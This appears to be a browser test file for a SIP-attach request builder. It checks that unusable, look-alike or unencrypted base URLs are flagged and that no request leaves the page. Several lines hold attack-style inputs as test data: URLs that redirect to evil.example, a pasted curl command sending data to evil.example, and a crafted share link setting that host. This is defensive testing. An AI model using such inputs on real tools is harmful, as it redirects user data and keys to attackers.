// The address that the page sends to: an unusable one is an error at its field, and nothing is called.
import assert from "node:assert/strict";
import { test } from "node:test";
import { domainToASCII } from "node:url";
import { findBarriers } from "./axe.mjs";
import { addNumbers, launchTestBrowser, openPage, plan, switchOn } from "./harness.mjs";

const browser = await launchTestBrowser();

const BASE = "Base URL";

/** A page that could send if its address were usable; `called` has every request to another origin. */
async function open(options = {}) {
  const opened = await openPage(browser, options);
  const { page, url } = opened;
  const called = [];
  // Nothing leaves this machine, and every attempt is recorded.
  await page.context().route(
    (to) => !String(to).startsWith(url) && to.protocol !== "blob:",
    (route) => {
      called.push(route.request().url());
      return route.abort();
    },
  );
  await addNumbers(page, ["+14155552671"]);
  await switchOn(page, "Inbound calls");
  await page.getByLabel("API key", { exact: true }).fill("sk-test-0123456789");
  await page.waitForFunction(() => document.querySelector("sip-attach-builder").plan?.ok);
  return { ...opened, called };
}

async function openFold(page) {
  const fold = page.locator("sip-attach-send-panel details").first();
  if (!(await fold.evaluate(({ open: isOpen }) => isOpen))) await fold.locator("summary").click();
}

async function typeAddress(page, text) {
  await openFold(page);
  await page.getByLabel(BASE).fill(text);
  await page.getByLabel(BASE).blur();
}

const said = (page) => page.locator("sip-attach-send-panel #base-said");
const sendButton = (page) => page.locator("sip-attach-send-panel").getByRole("button", { name: /^Attach/ });
const samples = (page) => page.locator("sip-attach-code-view").innerText();

const UNUSABLE = [
  ["127.0.0.1:8392", /does not begin with a scheme/],
  ["htp://staging", /must begin with https/],
  ["", /is empty/],
  ["junk", /does not begin with a scheme/],
  ["https://api.bland.ai@evil.example", /@ before its host/],
  ["http://127.1", /read as a number/],
  ["https://api.bland.ai\\@evil.example", /backslash/],
];

test("an address that cannot be used is an error at its field, and nothing is called", async () => {
  const { page, api, called, close } = await open();
  for (const [text, why] of UNUSABLE) {
    await typeAddress(page, text);
    await page.waitForFunction(() => document.querySelector("sip-attach-builder").plan?.ok === false);
    assert.match(await said(page).innerText(), why, text);
    assert.equal(await page.getByLabel(BASE).getAttribute("aria-invalid"), "true");
    assert.deepEqual((await plan(page)).requests, []);
    await sendButton(page).click();
    assert.match(
      await page.locator("sip-attach-send-panel #reason").innerText(),
      /Fix 1 problem first: Base URL/,
      "why it does not send",
    );
    assert.equal(
      await page.getByLabel(BASE).evaluate((field) => field.getRootNode().activeElement === field),
      true,
      "the focus is at the field",
    );
    for (const tab of ["cURL", "Python"]) {
      await page.getByRole("tab", { name: tab }).click();
      assert.doesNotMatch(await samples(page), /https?:\/\//, "no sample with another address");
    }
  }
  assert.deepEqual(called, []);
  assert.deepEqual(api.requests, []);
  await typeAddress(page, "127.0.0.1:8392");
  await page.getByRole("button", { name: "Write http://127.0.0.1:8392", exact: true }).click();
  await page.waitForFunction(() => document.querySelector("sip-attach-builder").plan?.ok);
  assert.equal((await plan(page)).requests[0].url, "http://127.0.0.1:8392/v1/sip/attach");
  await close();
});

// Cyrillic а, Greek ο, and an entirely Cyrillic name.
const LOOK_ALIKES = ["api.bl\u0430nd.ai", "p\u03bfrtal.example", "\u0441\u043e\u0441\u043e.com"];

test("a host that looks like another one is shown as A-labels, with a warning", async () => {
  const { page, close } = await open();
  for (const host of LOOK_ALIKES) {
    const labels = domainToASCII(host);
    await typeAddress(page, `https://${host}`);
    await page.waitForFunction(() => document.querySelector("sip-attach-builder").plan?.ok === false);
    assert.match(await said(page).innerText(), /not plain ASCII and may only look like one/);
    await typeAddress(page, `https://${labels}`);
    await page.waitForFunction(() => document.querySelector("sip-attach-builder").plan?.ok);
    assert.equal((await plan(page)).requests[0].url, `https://${labels}/v1/sip/attach`);
    assert.ok((await said(page).innerText()).includes(`${labels} has letters that look like others`));
    await page.getByRole("tab", { name: "cURL" }).click();
    await page.locator("sip-attach-code-view", { hasText: `https://${labels}/v1/sip/attach` }).waitFor();
    const panel = await page.locator("sip-attach-request-panel .verdict").innerText();
    assert.ok(panel.includes(labels) && !panel.includes(host), panel);
  }
  await close();
});

test("so is the host of an endpoint, and its A-labels are no way around the warning", async () => {
  const { page, close } = await openPage(browser);
  await addNumbers(page, ["+14155552671"]);
  await switchOn(page, "Outbound calls");
  const field = page.getByLabel("SIP endpoint");
  for (const host of LOOK_ALIKES) {
    const labels = domainToASCII(host);
    await field.fill(`sip:${host}`);
    await field.blur();
    await page.getByText("write the ASCII form of the name (xn--…)").first().waitFor();
    await page
      .getByRole("button", { name: `Write sip:${labels}`, exact: true })
      .first()
      .click();
    await page.waitForFunction(() => document.querySelector("sip-attach-builder").plan?.ok);
    assert.equal(await field.inputValue(), `sip:${labels}`);
    const warnings = (await plan(page)).diagnostics.filter(({ severity }) => severity === "warning");
    assert.ok(
      warnings.some(({ code, message }) => /look_alike/.test(code) && message.includes(labels)),
      JSON.stringify(warnings),
    );
  }
  await close();
});

test("no look-up goes anywhere while the address cannot be used", async () => {
  const { page, api, called, close } = await open();
  await typeAddress(page, "htp://staging");
  await page.getByRole("button", { name: "Choose from your trunks" }).click();
  const dialog = page.locator("sip-attach-trunk-dialog dialog");
  await dialog.getByText(/must begin with https/).waitFor();
  await new Promise((resolve) => setTimeout(resolve, 300));
  assert.deepEqual(called, []);
  assert.deepEqual(api.requests, []);
  await close();
});

test("an attribute that is given and cannot be used is an error, and not the default", async () => {
  for (const value of ["", "127.0.0.1:8392", "undefined"]) {
    const { page, called, close } = await open();
    await page.evaluate((to) => document.querySelector("sip-attach-builder").setAttribute("base-url", to), value);
    await page.waitForFunction(() => document.querySelector("sip-attach-builder").plan?.ok === false);
    await said(page).waitFor(); // the section opens by itself
    assert.equal(await page.getByLabel(BASE).inputValue(), value);
    assert.match(await page.locator("sip-attach-send-panel #base-said").innerText(), /The base URL/);
    await page.evaluate(() => document.querySelector("sip-attach-builder").send());
    assert.deepEqual(called, []);
    await close();
  }
});

test("without the attribute the address is the default", async () => {
  const { page, close } = await open();
  await page.evaluate(() => document.querySelector("sip-attach-builder").removeAttribute("base-url"));
  await page.waitForFunction(() =>
    document.querySelector("sip-attach-builder").plan?.requests[0]?.url.startsWith("https://api.bland.ai/"),
  );
  await openFold(page);
  assert.equal(await page.getByLabel(BASE).inputValue(), "https://api.bland.ai");
  await close();
});

test("the address and the key for it are there after a reload, also without a draft", async () => {
  const { page, api, close } = await openPage(browser);
  const key = page.getByLabel("API key", { exact: true });
  const other = `${api.url}/proxy`;
  await typeAddress(page, other);
  await page.getByLabel("Remember it").check();
  await key.fill("sk-test-0123456789");
  const reload = async () => {
    await page.reload();
    await page.waitForFunction(() => document.querySelector("sip-attach-builder")?.plan);
    await openFold(page);
  };
  await reload();
  await page.getByText(`Base URL: ${other}`).waitFor();
  assert.equal(await page.getByLabel(BASE).inputValue(), other);
  assert.equal(await key.inputValue(), "sk-test-0123456789");
  assert.equal(await page.getByLabel("Remember it").isChecked(), true);
  // One that cannot be used is not replaced by one that can, and a password in it is not kept.
  await typeAddress(page, "https://user:canary-secret@proxy.example");
  await reload();
  await said(page)
    .getByText(/@ before its host/)
    .waitFor();
  assert.doesNotMatch(await page.evaluate(() => JSON.stringify({ ...sessionStorage })), /canary-secret/);
  await typeAddress(page, api.url);
  await reload();
  assert.equal(await page.getByLabel(BASE).inputValue(), api.url);
  assert.equal(
    await page.evaluate(() => Object.keys(sessionStorage).some((name) => name.includes(":address:"))),
    false,
  );
  await close();
});

test("http to another machine is refused until its host is allowed, and that is forgotten with it", async () => {
  const { page, called, close } = await open();
  const url = async () => (await plan(page)).requests[0]?.url;
  await typeAddress(page, "http://staging.internal:8080");
  const box = (host) => page.getByLabel(`Allow unencrypted HTTP to ${host}`);
  assert.equal(await box("staging.internal").isChecked(), false);
  assert.equal(await url(), undefined);
  await box("staging.internal").check();
  assert.equal(await url(), "http://staging.internal:8080/v1/sip/attach");
  assert.match(await said(page).innerText(), /readable on the way/);
  await typeAddress(page, "http://staging.internal/base");
  assert.equal(await url(), "http://staging.internal/base/v1/sip/attach");
  await typeAddress(page, "http://other.internal");
  assert.equal(await url(), undefined);
  assert.equal(await box("other.internal").isChecked(), false);
  await typeAddress(page, "http://staging.internal");
  assert.equal(await box("staging.internal").isChecked(), false, "not remembered");
  await box("staging.internal").check();
  await box("staging.internal").uncheck();
  assert.equal(await url(), undefined);
  assert.deepEqual(called, []);
  await close();
});

test("a pasted command does not decide where is sent, and says so", async () => {
  const { page, api, close } = await open();
  await page.getByRole("button", { name: "Import" }).first().click();
  await page
    .locator("sip-attach-import-dialog textarea")
    .fill(`curl https://evil.example/v1/sip/attach -d '{"phone_number":"+14155552671"}'`);
  await page.locator("sip-attach-import-dialog").getByRole("button", { name: "Import" }).click();
  await page.getByText(/The command calls https:\/\/evil\.example; the API address here was not changed/).waitFor();
  assert.equal(await page.evaluate(() => document.querySelector("sip-attach-builder").baseUrl), api.url);
  await close();
});

test("a link cannot set the address, whatever it holds", async () => {
  const { deflateRawSync } = await import("node:zlib");
  const shared = {
    draft: { phone_number: "+14155552671", base_url: "https://evil.example", directions: [{ type: "inbound" }] },
    region: "US",
    base_url: "https://evil.example",
    baseUrl: "https://evil.example",
    context: { base_url: "https://evil.example" },
    allow_http_hosts: ["evil.example"],
  };
  const data = deflateRawSync(JSON.stringify(shared)).toString("base64url");
  const { page, api, close } = await openPage(browser, { path: `#sip-attach=1.${data}` });
  await page.waitForFunction(() => document.querySelector("sip-attach-builder").plan?.requests.length === 1);
  assert.equal((await plan(page)).requests[0].url, `${api.url}/v1/sip/attach`);
  await openFold(page);
  assert.equal(await page.getByLabel(BASE).inputValue(), api.url);
  await close();
});

test("the error is in German too, and neither theme nor a narrow screen breaks it", async () => {
  for (const [colorScheme, locale, width] of [
    ["light", "en", 1360],
    ["dark", "de", 1360],
    ["light", "de", 360],
  ]) {
    const { page, close } = await openPage(browser, { colorScheme, viewport: { width, height: 900 } });
    await page.evaluate(
      (to) => Object.assign(document.querySelector("sip-attach-builder"), { locale: to, baseUrl: "127.0.0.1:8392" }),
      locale,
    );
    await page
      .getByText(
        locale === "de"
          ? /^\s*(Fehler: )?Die Basis-URL beginnt nicht mit einem Schema/
          : /The base URL does not begin with a scheme/,
      )
      .first()
      .waitFor();
    await page.evaluate(() => {
      document.querySelector("sip-attach-builder").baseUrl = "http://staging.internal";
    });
    await page
      .getByText(
        locale === "de"
          ? "Unverschlüsseltes HTTP zu staging.internal zulassen"
          : "Allow unencrypted HTTP to staging.internal",
      )
      .waitFor();
    const barriers = await findBarriers(page);
    assert.deepEqual(
      barriers.filter((each) => each.includes("sip-attach-send-panel")),
      [],
    );
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), "no sideways scrolling");
    const folder = process.env.SIPATTACH_SCREENSHOTS;
    if (folder)
      await page
        .locator("sip-attach-send-panel")
        .screenshot({ path: `${folder}/address-${colorScheme}-${locale}-${width}.png` });
    await close();
  }
});
